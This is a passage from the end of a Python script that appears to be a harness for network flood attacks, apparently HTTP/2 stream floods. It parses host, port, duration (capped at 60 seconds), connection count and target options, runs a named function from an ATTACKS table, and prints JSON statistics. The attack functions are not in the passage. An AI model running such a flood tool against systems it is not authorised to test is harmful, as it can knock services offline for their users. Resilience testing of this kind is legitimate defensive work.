                   help="authority of the Get streams (default: "
                        f"{DEFAULT_FLOOD_TARGET})")
    ns = p.parse_args(argv)
    global START
    START = time.monotonic()
    args = Args(ns.host, ns.port, min(ns.seconds, 60.0), ns.connections, ns.target)
    stats = Stats()
    try:
        ATTACKS[ns.name](args, stats)
    except OSError as e:  # the attack's own failure, reported, not raised
        stats.extra["error"] = f"{type(e).__name__}: {e}"
    finally:
        for c in stats.conns:
            c.close()
    print(json.dumps(summary(ns.name, stats)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
